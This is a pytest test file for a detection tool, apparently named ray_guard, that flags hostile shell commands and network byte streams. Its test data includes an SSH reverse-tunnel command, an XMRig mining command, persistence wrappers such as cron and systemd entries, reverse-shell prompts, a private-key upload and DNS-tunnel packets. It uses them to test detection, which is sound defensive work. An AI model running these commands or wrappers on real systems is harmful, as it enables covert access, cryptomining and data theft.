"""Detection: disguises that have to be found, and ordinary commands that must not be."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ray_guard.detect import commands, payloads, sigma
from ray_guard.detect.shell import commands as split
from ray_guard.detect.ssh import tunnels_back

_COMMANDS = Path(__file__).parent / "commands"


def _lines(name: str) -> list[dict[str, str]]:
    return [json.loads(line) for line in (_COMMANDS / name).read_text().splitlines()]


@pytest.mark.parametrize("line", _lines("attacks.jsonl"), ids=lambda line: line["command"][:60])
def test_disguises_are_found(line: dict[str, str]) -> None:
    found = commands.judge(line["command"])
    assert found is not None
    assert found.kind.value == line["kind"]


@pytest.mark.parametrize(
    "wrapped",
    [
        *("sudo -n {}", "nohup {} &", "cd /tmp && {}", "timeout 60 {}", "true | {}", "X=1 setsid {}", "env -S '{}'"),
        *("find /tmp -exec {} \\;", "screen -dmS w {}", "tmux new-session -d '{}'", "kubectl exec pod -- {}"),
        *("python3 -c \"import os; os.system('{}')\"", "echo '{}' > /tmp/run; sh /tmp/run", "alias w='{}'; w"),
        *(
            "bash <<'E'\n{}\nE",
            "echo '* * * * * root {}' > /etc/cron.d/w",
            "printf '%s\\n' '{}' | at now",
            "w() {{ {}; }}; w",
        ),
        "cat > w.service <<E\n[Service]\nExecStart={}\nE",
    ],
)
def test_wrappers_hide_nothing(wrapped: str) -> None:
    for command in ("ssh -NR 2222:localhost:22 u@h", "./xmrig -o pool.minexmr.com:4444", "nmap -sT 10.0.0.0/24"):
        assert commands.judge(wrapped.format(command)) is not None, command


@pytest.mark.parametrize("line", _lines("ordinary.jsonl"), ids=lambda line: line["command"][:60])
def test_ordinary_commands_are_left_alone(line: dict[str, str]) -> None:
    assert commands.judge(line["command"]) is None


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    "part",
    [
        "a",
        "a=b;",
        "$(",
        "'",
        "for i in x; do ",
        "a.b.",
        "1.2.",
        "curl $( ",
        "<(",
        "eval ",
        "\\x41",
        "QUJD",
        "a://",
        "xargs nc ",
        "tunnel ",
        "a|",
        "cat a|",
        "--client ",
        "exec ",
        "do a;done ",
    ],
)
def test_no_length_stops_it(part: str) -> None:
    # A tool writes its command lines itself: none may keep who judges them busy.
    assert commands.judge(part * (60_000 // len(part))) is None
    assert payloads.judge(part.encode() * 10_000, "sent") is None


@given(st.text(max_size=400))
def test_no_text_stops_it(text: str) -> None:
    commands.judge(text)


@pytest.mark.parametrize(
    ("words", "rule"),
    [
        ("-fNTR 2222:localhost:22 h", "ssh.remote_forward"),
        ("-NR2222:localhost:22 h", "ssh.remote_forward"),
        ("h -R 2222:localhost:22", "ssh.remote_forward"),
        ("-oRemoteForward=2222\\ localhost:22 h", "ssh.remote_forward"),
        ("-o Tunnel=yes h", "ssh.tun_device"),
        ("-L 2222:localhost:22 h", ""),
        ("-p 22 h ls -R /", ""),
        ("h -- -R 2:3:4", ""),
        ("-Z h", ""),
    ],
)
def test_arguments_are_read_as_ssh_reads_them(words: str, rule: str) -> None:
    assert tunnels_back(next(iter(split(f"ssh {words}"))).arguments) == rule


@pytest.mark.parametrize(
    ("payload", "direction", "kind"),
    [
        (b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", "received", "reverse_tunnel"),
        (b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}\n', "sent", "mining"),
        (
            b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4A","pass":"x","agent":"XMRig/6"}}\n',
            "sent",
            "mining",
        ),
        (b'{"id":1,"method":"eth_submitLogin","params":["0x1"]}', "sent", "mining"),
        (b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", "sent", "metadata"),
        (
            b"GET / HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: chisel-v3\r\n\r\n",
            "sent",
            "reverse_tunnel",
        ),
        (b'{"Hello":0}\0', "sent", "reverse_tunnel"),
        (b"sh-5.1$ ", "sent", "reverse_shell"),
        (b"bash: no job control in this shell\n", "sent", "reverse_shell"),
        (b"-----BEGIN OPENSSH PRIVATE KEY-----\n", "sent", "exfiltration"),
        (
            b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0\x30aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCBtZXNzYWdl\x01t\x07example\x03org\0\0\x10\0\x01",
            "sent",
            "dns_tunnel",
        ),
        (b"Welcome\r\nto all\r\nSSH-2.0-dropbear_2022.83\r\n", "received", "reverse_tunnel"),
        (b'[ {"params" : [], "id":"a","method" :\t"mining.\\u0073ubscribe"}]', "sent", "mining"),
        (b'{"method":"login","params":{"login":"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWz', "sent", "mining"),
        (b"POST / HTTP/1.1\r\nX-Mining-Extensions: midstate\r\n\r\n", "sent", "mining"),
        (b'POST / HTTP/1.1\r\n\r\n{"method":"getblocktemplate","params":[{}]}', "sent", "mining"),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 \x00\x00\x18pool.supportxmr.com", "sent", "mining"),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 \x00\x00\x18a.tunnel.bore.pub", "sent", "reverse_tunnel"),
        (b"\x05\x01\x00\x05\x01\x00\x03\x0bexample.org\x01\xbb", "received", "reverse_tunnel"),
        (b"\x04\x01\x01\xbb\xc0\x00\x02\x01\x00", "received", "reverse_tunnel"),
        (b"CONNECT example.org:22 HTTP/1.1\r\n", "sent", "reverse_tunnel"),
        (b"\x00\x01\x00\x01\x00\x00\x00\x01\x00\x00\x00\x00", "sent", "reverse_tunnel"),
        (b"\x17\x16\x03\x01\x00\xf1", "sent", "reverse_tunnel"),
        (b"\x1b[01;32mroot@box\x1b[00m:\x1b[01;34m/work\x1b[00m# ", "sent", "reverse_shell"),
        (b"PS /home/x> ", "sent", "reverse_shell"),
        (b"CONNECT example.org:443 HTTP/1.1\r\n", "sent", None),
        (b'{"method":"login","params":{"user":"a","password":"b"}}', "sent", None),
        (b"*1\r\n$4\r\nPING\r\n", "sent", None),
        (b"\x00\x00\x00\x08\x04\xd2\x16\x2f", "sent", None),
        (b"\x00\x00\x00\x25\x00\x03\x00\x00user\x00a\x00\x00", "sent", None),
        (b"J\x00\x00\x00\x0a8.0.36\x00\x0b\x00\x00\x00", "received", None),
        (b"EHLO localhost\r\n", "sent", None),
        (b"\x13BitTorrent protocol\x00\x00\x00\x00\x00\x10\x00\x05", "sent", None),
        (b"003egit-upload-pack /x.git\x00host=h\x00", "sent", None),
        (bytes(64), "sent", None),
        (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04\x00\x00\x00\x00\x00", "sent", None),
        (b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n", "sent", None),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "sent", None),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(8, 250)), "sent", None),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 \x00\x00\x09zpool.org", "sent", None),
        (b"PUT /b HTTP/1.1\r\nAuthorization: AWS4 Credential=AKIAABCDEFGHIJKLMNOP/1\r\n\r\n", "sent", None),
        (b"GET / HTTP/1.1\r\nAuthorization: token ghp_" + b"a" * 36 + b"\r\n\r\n", "sent", None),
        (b"POST / HTTP/1.1\r\n\r\nghp_" + b"a" * 36, "sent", "exfiltration"),
        (b'{"method":"login","params":{"user":"a","pass":"b","agent":"c"}}', "sent", None),
        (
            b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0\x35internal-a0123456789abcdef0123456789abcdef-1234567890\x03elb\x09amazonaws\x03com\0\0\x01\0\x01",
            "sent",
            None,
        ),
        (b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}', "sent", None),
        (b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0\x03www\x07example\x03org\0\0\x01\0\x01", "sent", None),
        (b'POST /v1/messages HTTP/1.1\r\nHost: h\r\n\r\n{"prompt": "$ "}', "sent", None),
        (b"", "sent", None),
    ],
)
def test_first_bytes(payload: bytes, direction: str, kind: str | None) -> None:
    found = payloads.judge(payload, direction)
    assert (None if found is None else found.kind.value) == kind


@given(st.binary(max_size=300), st.sampled_from(["sent", "received"]))
def test_no_bytes_stop_it(payload: bytes, direction: str) -> None:
    payloads.judge(payload, direction)


SIGMA = """
title: Suspicious Curl Upload Of A Recipe
id: 5013198c-9c5c-4f45-a7b5-5c5f5a5b5c5d
status: test
logsource: {category: process_creation, product: linux}
tags: [attack.t1567]
detection:
    selection:
        Image|endswith: '/curl'
        CommandLine|contains|all: [' --upload-file ', 'cipe']
    filter:
        CommandLine|re: 'localhost(:\\d+)?/'
    condition: selection and not filter
level: medium
"""


def detect(tmp_path: Path, lines: list[str], *words: str) -> tuple[int, list[dict[str, Any]], str]:
    path = tmp_path / "commands.jsonl"
    path.write_text("\n".join(lines))
    command = [sys.executable, "-m", "ray_guard.cli.__main__", "detect", "--commands", str(path), *words]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    return done.returncode, [json.loads(line) for line in done.stdout.splitlines()], done.stderr


def test_sigma_rules_of_others_count_too(tmp_path: Path) -> None:
    rules = tmp_path / "rule.yml"
    rules.write_text(SIGMA)
    asked = [
        json.dumps({"command": command})
        for command in (
            "curl --upload-file recipe h/",
            "curl --upload-file recipe localhost/",
            "curl recipe",
            "ssh -w0:0 h",
        )
    ]
    status, answers, _ = detect(tmp_path, asked, "--rules", str(rules))
    assert status == 0
    name = "sigma.5013198c-9c5c-4f45-a7b5-5c5f5a5b5c5d"
    assert answers[0] == {"flagged": True, "kind": "exfiltration", "rule": name}
    assert [each["flagged"] for each in answers] == [True, False, False, True]


def test_every_line_is_answered_and_a_bad_one_named(tmp_path: Path) -> None:
    status, answers, errors = detect(
        tmp_path, ['{"command": "ls"}', "{", '{"text": "ls"}', '{"command": ["nmap", "h"]}']
    )
    assert status == 1
    assert [each["flagged"] for each in answers] == [False, False, False, True]
    assert answers[1]["error"].startswith("line 2: ")
    assert "2 of 4 lines" in errors


def test_a_file_that_is_no_rule_is_named(tmp_path: Path) -> None:
    path = tmp_path / "x.yml"
    path.write_text("detection: [")
    with pytest.raises(sigma.BadRule, match=r"x\.yml: no Sigma rule"):
        sigma.load([path])
    path.write_text("just words")
    with pytest.raises(sigma.BadRule, match="a YAML mapping with title, logsource and detection"):
        sigma.load([path])
    path.write_text(SIGMA.replace("linux", "windows"))
    with pytest.raises(sigma.BadRule, match="no rule about processes of Linux"):
        sigma.load([path])


def test_traces_that_are_none_are_named(tmp_path: Path) -> None:
    path = tmp_path / "rubbish.jsonl"
    path.write_text('rubbish\n{"a": 1}\n')
    command = [sys.executable, "-m", "ray_guard.cli.__main__", "detect", "--traces", str(path)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    assert (done.returncode, done.stdout) == (2, "")
    assert f"{path}: no line of it is a span" in done.stderr
